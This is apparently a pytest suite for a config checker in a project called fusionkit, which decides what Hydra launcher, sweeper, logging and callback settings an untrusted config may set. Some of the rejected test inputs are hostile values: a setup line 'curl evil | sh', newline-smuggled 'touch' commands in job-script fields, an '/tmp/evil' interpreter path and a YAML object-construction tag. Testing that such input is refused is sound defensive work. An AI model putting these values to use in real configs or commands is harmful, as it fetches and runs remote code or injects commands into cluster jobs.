"""What the hydra node may contain; what it may not is in test_hostile.py."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hydra.types import RunMode

from fusionkit import config
from fusionkit.config import composition, hydra_node
from fusionkit.config.composition import CheckingLoader, prepare, search_path
from fusionkit.config.hydra_bridge import BASIC_LAUNCHER
from fusionkit.config.hydra_node import check_files, check_search_path
from fusionkit.core import allowed
from fusionkit.errors import ConfigError
from tests.exhaustive import exhaustive


def compose(folder: Path | None = None, *overrides: str) -> Any:
    prepare()
    loader = CheckingLoader(search_path(None, None if folder is None else str(folder)))
    return loader.load_configuration("config", list(overrides), RunMode.RUN)


@pytest.mark.parametrize(
    "overrides",
    [
        ["hydra/job_logging=default"],
        ["hydra.run.dir=elsewhere"],
        ["hydra.verbose=true"],
        ["hydra.job.name=mine"],
        ["hydra/job_logging=default", "hydra.job_logging.handlers.file.filename=/elsewhere/x.log"],
        ["+hydra.job_logging.handlers.x={class:logging.FileHandler,filename:/elsewhere/x.log}"],
        ["+hydra.launcher.timeout_min=3"],
        *exhaustive(
            [
                ["hydra/job_logging=stdout"],
                ["hydra/job_logging=disabled"],
                ["hydra/hydra_logging=disabled"],
                ["hydra.run={dir: elsewhere}"],
                ["hydra.sweep.dir=elsewhere", "hydra.sweep.subdir=x"],
                ["hydra.output_subdir=null"],
                ["hydra.verbose=[fusionkit]"],
                ["hydra.sweeper.max_batch_size=3"],
                ["+hydra.job_logging.handlers.x={class:logging.StreamHandler,stream:'ext://sys.stderr'}"],
                ["hydra/job_logging=default", "hydra.job_logging.root.level=DEBUG"],
            ]
        ),
    ],
)
def test_hydras_own_options_work(overrides: list[str]) -> None:
    compose(None, *overrides)


@pytest.mark.parametrize(
    "text",
    [
        "mode: MULTIRUN",
        "verbose: [fusionkit, hydra]",
        "help: {app_name: mine, header: '$APP', footer: '${hydra.help.header}'}",
        "sweeper: {params: {seed: '0,1', n: 3, fusion: 'choice(average,summation)'}}",
        # As in config.yaml; as Hydra itself has it, below.
        "run: {dir: 'outputs/${now:%Y-%m-%d}/${now:%H-%M-%S-%f}'}",
        *exhaustive(
            [
                "mode: null",
                "verbose: true",
                "verbose: fusionkit",
                "job: {chdir: true, name: mine}",
                "sweeper: {max_batch_size: 3}",
                "run: {dir: 'outputs/${now:%Y-%m-%d}/${now:%H-%M-%S}'}",
                "output_subdir: .hydra",
            ]
        ),
    ],
)
def test_a_config_may_change_what_is_listed(text: str, folder: Callable[[dict[str, str]], Path]) -> None:
    compose(folder({"experiment/mine.yaml": f"# @package _global_\nhydra: {{{text}}}\n"}), "+experiment=mine")


PRIMARY = """\
defaults: [data: mfeat, fabrication: dense, fusion: summation, model: linear, train: default, _self_,
           override hydra/job_logging: CHOICE]
n: 3
dims: ${data.dims}
device: cpu
seed: 0
"""


@pytest.mark.parametrize("choice", ["default", "stdout", "disabled", "none"])
def test_a_config_may_choose_among_hydras_own_logging(choice: str, folder: Callable[[dict[str, str]], Path]) -> None:
    prepare()
    loader = CheckingLoader(search_path(None, str(folder({"mine.yaml": PRIMARY.replace("CHOICE", choice)}))))
    cfg = loader.load_configuration("mine", [], RunMode.RUN)
    assert cfg.hydra.runtime.choices["hydra/job_logging"] == choice


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("run: {dir: elsewhere}", "hydra.run.dir"),
        ("sweep: {subdir: '${hydra.job.num}/x'}", "hydra.sweep.subdir"),
        ("output_subdir: elsewhere", "hydra.output_subdir"),
        ("runtime: {output_dir: /elsewhere}", "hydra.runtime.output_dir"),
        ("runtime: {choices: {fusion: /elsewhere}}", "hydra.runtime.choices.fusion"),
        ("job: {name: '${hydra.run.dir}'}", "hydra.job.name"),
        ("overrides: {task: [seed=1]}", "hydra.overrides.task[0]"),
        ("sweeper: {params: {seed: '${train}'}}", "hydra.sweeper.params.seed"),
        ("job_logging: {version: 2}", "hydra.job_logging.version"),
        ("job_logging: {root: {level: DEBUG}}", "hydra.job_logging.root.level"),
        ("job_logging: {formatters: {simple: {style: '{'}}}", "hydra.job_logging.formatters.simple.style"),
        *exhaustive(
            [
                ("sweep: {dir: elsewhere}", "hydra.sweep.dir"),
                ("output_subdir: null", "hydra.output_subdir"),
                ("runtime: {cwd: /elsewhere}", "hydra.runtime.cwd"),
                ("job: {name: ../x}", "hydra.job.name"),
                ("job: {num: 3}", "hydra.job.num"),
                ("job: {override_dirname: /elsewhere}", "hydra.job.override_dirname"),
                ("job: {config: {override_dirname: {kv_sep: /../}}}", "hydra.job.config.override_dirname.kv_sep"),
                ("verbose: '${oc.select:x}'", "hydra.verbose"),
                (
                    "hydra_logging: {handlers: {x: {class: logging.NullHandler}}}",
                    "hydra.hydra_logging.handlers.x.class",
                ),
                ("job_logging: {handlers: {x: {class: logging.StreamHandler}}}", "hydra.job_logging.handlers.x.class"),
            ]
        ),
    ],
)
def test_a_config_may_change_nothing_else(text: str, key: str, folder: Callable[[dict[str, str]], Path]) -> None:
    untrusted = folder({"experiment/mine.yaml": f"# @package _global_\nhydra: {{{text}}}\n"})
    with pytest.raises(ConfigError) as error:
        compose(untrusted, "+experiment=mine")
    assert f"{key} should be " in str(error.value)


def test_a_file_of_a_config_does_not_stand_for_hydras(folder: Callable[[dict[str, str]], Path]) -> None:
    """A folder that stands before Hydra's registered configs hides them."""
    untrusted = folder({"hydra/config.yaml": "run: {dir: elsewhere}\n", "train/mine.yaml": "defaults: [default]\n"})
    with pytest.raises(ConfigError, match=r"hydra"):
        compose(untrusted, "train=mine")


def test_hydras_own_configs_stand_in_their_places(folder: Callable[[dict[str, str]], Path]) -> None:
    text = "# @package _global_\ndefaults:\n  - /hydra/job_logging@hydra.hydra_logging.handlers.x: stdout\n"
    with pytest.raises(ConfigError, match=r"hydra\.hydra_logging\.handlers\.x"):
        compose(folder({"experiment/mine.yaml": text}), "+experiment=mine")


def test_all_mistakes_are_reported_together(folder: Callable[[dict[str, str]], Path]) -> None:
    text = "# @package _global_\nhydra: {run: {dir: a}, sweep: {dir: b}, job: {env_set: {X: y}}}\n"
    with pytest.raises(ConfigError) as error:
        compose(folder({"experiment/mine.yaml": text}), "+experiment=mine")
    for key in ("hydra.run.dir", "hydra.sweep.dir", "hydra.job.env_set.X"):
        assert f"{key} should be " in str(error.value)


@pytest.mark.parametrize(
    ("override", "key"),
    [
        ("hydra.runtime.output_dir=/elsewhere", "hydra.runtime.output_dir"),
        ("+hydra.job.env_set.X=y", "hydra.job.env_set.X"),
        ("hydra.job.env_copy=[X]", "hydra.job.env_copy[0]"),
        ("hydra.overrides.hydra=[x]", "hydra.overrides.hydra[0]"),
        ("hydra.launcher._target_=tests.tripwire.Fire", "hydra.launcher._target_"),
        ("+hydra.launcher._args_=[1]", "hydra.launcher._args_[0]"),
        ("++hydra={launcher:{_target_:tests.tripwire.Fire}}", "hydra.launcher._target_"),
        ("hydra.launcher='${train}'", "hydra.launcher"),
        ("+hydra.callbacks.x._target_=tests.tripwire.Fire", "hydra.callbacks.x._target_"),
        ("+hydra.callbacks.x='${train}'", "hydra.callbacks.x"),
        ("+hydra.run.x._target_=tests.tripwire.Fire", "hydra.run.x._target_"),
        ("+hydra.job_logging.handlers.x.class=tests.tripwire.Fire", "hydra.job_logging.handlers.x.class"),
        ("+hydra.job_logging.handlers.x.class=logging.handlers.SocketHandler", "hydra.job_logging.handlers.x.class"),
        ("+hydra.job_logging.handlers.x.stream='ext://os.environ'", "hydra.job_logging.handlers.x.stream"),
        ("+hydra.job_logging.handlers.x.stream='cfg://root'", "hydra.job_logging.handlers.x.stream"),
        ("+hydra.job_logging.handlers='${train}'", "hydra.job_logging.handlers"),
    ],
)
def test_the_command_line_names_nothing_to_call(override: str, key: str) -> None:
    with pytest.raises(ConfigError) as error:
        compose(None, override)
    assert f"{key} should be " in str(error.value)


def test_a_callback_has_to_be_allowed_from_python(
    folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(allowed, "_extra", {})
    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, verbose: true}\n"})
    with pytest.raises(
        ConfigError, match=r"hydra\.callbacks\.x\._target_ should be allowed by fusionkit\.config\.allow"
    ):
        compose(untrusted, "hydra/callbacks=mine")
    config.allow("tests.tripwire.Fire")
    compose(untrusted, "hydra/callbacks=mine")
    compose(None, "+hydra.callbacks.x._target_=tests.tripwire.Fire")
    nested = folder(
        {"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, y: {_target_: tests.tripwire.fire}}\n"}
    )
    with pytest.raises(ConfigError, match=r"hydra\.callbacks\.x\.y\._target_ should be absent"):
        compose(nested, "hydra/callbacks=mine")


@pytest.mark.parametrize(
    ("entries", "key"),
    [
        (["pkg://os"], "hydra.searchpath[0]"),
        (["/a", "structured://x"], "hydra.searchpath[1]"),
        (["${oc.env:HOME}"], "hydra.searchpath[0]"),
        ("/a", "hydra.searchpath"),
        ([3], "hydra.searchpath[0]"),
    ],
)
def test_the_search_path_of_a_config_holds_folders(entries: Any, key: str) -> None:
    with pytest.raises(ConfigError) as error:
        check_search_path({"hydra": {"searchpath": entries}})
    assert str(error.value).startswith(f"{key} should be ")
    assert "written out" in str(error.value)


def test_folders_may_be_searched() -> None:
    check_search_path(None)
    check_search_path({"hydra": None})
    check_search_path({"hydra": {"searchpath": ["/a", "b/c", "file:///d"]}})


# -- launchers and sweepers --------------------------------------------------------------------------------------------


def test_a_launcher_keeps_its_defaults_whatever_they_say(monkeypatch: pytest.MonkeyPatch) -> None:
    from hydra.core.config_store import ConfigStore

    node = {"_target_": "hydra_plugins.x.X", "setup": ["module load x"], "init": {"address": "here", "ports": [1]}}
    monkeypatch.setattr(hydra_node, "_discovered", lambda kind: ["hydra_plugins.x.X"])
    monkeypatch.setattr(ConfigStore.instance(), "repo", {"hydra": {"launcher": {}}})
    with pytest.raises(ConfigError, match=r"hydra\.launcher\.setup\[0\] should be absent, as in Hydra's own configs"):
        check_files({"launcher": node}, {})
    ConfigStore.instance().store("x", node, "hydra/launcher")
    check_files({"launcher": node}, {})
    check_files({"launcher": {**node, "init": {"address": "here", "ports": [2]}}}, {})
    for changed, key in (
        ({"setup": ["module load y"]}, "setup[0]"),
        ({"init": {"address": "there"}}, "init.address"),
        ({"init": {"address": "here", "ports": [1, 2]}}, "init.ports[1]"),
    ):
        with pytest.raises(ConfigError) as error:
            check_files({"launcher": {**node, **changed}}, {})
        assert str(error.value).startswith(f"hydra.launcher.{key} should be ")


LAUNCHER = "_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n"
SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nmax_batch_size: null\nparams: null\n"


@pytest.mark.parametrize(
    ("group", "text", "key"),
    [
        ("launcher", "_target_: tests.tripwire.Fire\n", "_target_"),
        ("launcher", LAUNCHER + "setup: ['curl evil | sh']\n", "setup[0]"),
        ("launcher", LAUNCHER + "_args_: [a]\n", "_args_[0]"),
        # In a batch script each would be a line of its own.
        ("launcher", LAUNCHER + 'comment: "x\\ntouch y"\n', "comment"),
        ("launcher", LAUNCHER + 'additional_parameters: {"x\\ntouch y": 1}\n', "additional_parameters.x"),
        ("launcher", LAUNCHER + "srun_args: [--bcast]\n", "srun_args[0]"),
        ("launcher", LAUNCHER + "pre_dispatch: __import__('os')\n", "pre_dispatch"),
        ("launcher", LAUNCHER + "ray: {init: {address: 10.0.0.1}}\n", "ray.init.address"),
        # What a cluster accounts for.
        ("launcher", LAUNCHER + "partition: gpu\n", "partition"),
        ("sweeper", SWEEPER + "custom_search_space: tests.tripwire.fire\n", "custom_search_space"),
        ("sweeper", SWEEPER + "storage: sqlite:////tmp/x\n", "storage"),
        ("sweeper", SWEEPER + "sampler: {_target_: tests.tripwire.Fire}\n", "sampler._target_"),
        *exhaustive(
            [
                ("launcher", LAUNCHER + "python: /tmp/evil\n", "python"),
                ("launcher", LAUNCHER + "_partial_: true\n", "_partial_"),
                ("launcher", LAUNCHER + "additional_parameters: {wrap: 1}\n", "additional_parameters.wrap"),
                (
                    "launcher",
                    LAUNCHER + 'additional_parameters: {x_target_: "a\\ntouch y"}\n',
                    "additional_parameters.x_target_",
                ),
                ("launcher", LAUNCHER + "env_setup: {pip_packages: {evil: 1}}\n", "env_setup.pip_packages.evil"),
                ("launcher", LAUNCHER + "folder: !!python/object/apply:pathlib.Path [/tmp]\n", "folder"),
                ("launcher", LAUNCHER + "account: mine\n", "account"),
                ("launcher", LAUNCHER + "timeout_min: 3\n", "timeout_min"),
                ("sweeper", SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n", "sampler._target_"),
                ("sweeper", SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n", "x.y[0]._target_"),
            ]
        ),
    ],
)
def test_neither_names_anything_to_run(
    group: str, text: str, key: str, folder: Callable[[dict[str, str]], Path]
) -> None:
    with pytest.raises(ConfigError) as error:
        compose(folder({f"hydra/{group}/mine.yaml": text}), f"hydra/{group}=mine")
    assert str(error.value).startswith(f"hydra.{group}.{key}")


def test_a_launcher_is_a_mapping(folder: Callable[[dict[str, str]], Path]) -> None:
    with pytest.raises(ConfigError, match=r"hydra\.launcher should be .*found \[\]"):
        compose(folder({"hydra/launcher/mine.yaml": "[]\n"}), "hydra/launcher=mine")


def test_a_launcher_takes_numbers_and_some_texts(folder: Callable[[dict[str, str]], Path]) -> None:
    text = LAUNCHER + (
        "nodes: 3\nbackend: loky\npre_dispatch: 2*n_jobs\ncomment: 'a run'\n"
        "constraint: 'a100|h100'\nray: {init: {num_cpus: 2}}\n"
    )
    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine")
    text = LAUNCHER + "nodes: 1\n"
    line = ["+hydra.launcher.setup=[module load x]", "+hydra.launcher.partition=gpu"]
    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine", *line)


def test_what_is_allowed_here_is_not_allowed_in_workers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(allowed, "_extra", {})
    composition._check_workers({}, "hydra_plugins.x.XLauncher", sweep=False)
    config.allow("tests.tripwire.Fire")
    composition._check_workers({}, BASIC_LAUNCHER, sweep=False)
    with pytest.raises(
        ConfigError, match=r"should be the basic launcher, because what fusionkit\.config\.allow permits"
    ):
        composition._check_workers({}, "hydra_plugins.x.XLauncher", sweep=False)


def test_a_file_may_ask_for_as_many_workers_as_there_are_processors(folder: Callable[[dict[str, str]], Path]) -> None:
    compose(folder({"hydra/launcher/mine.yaml": f"{LAUNCHER}n_jobs: 1\n"}), "hydra/launcher=mine")
    with pytest.raises(ConfigError, match=r"hydra\.launcher\.n_jobs should be at most .* processors.*found 100000"):
        compose(folder({"hydra/launcher/mine.yaml": f"{LAUNCHER}n_jobs: 100000\n"}), "hydra/launcher=mine")
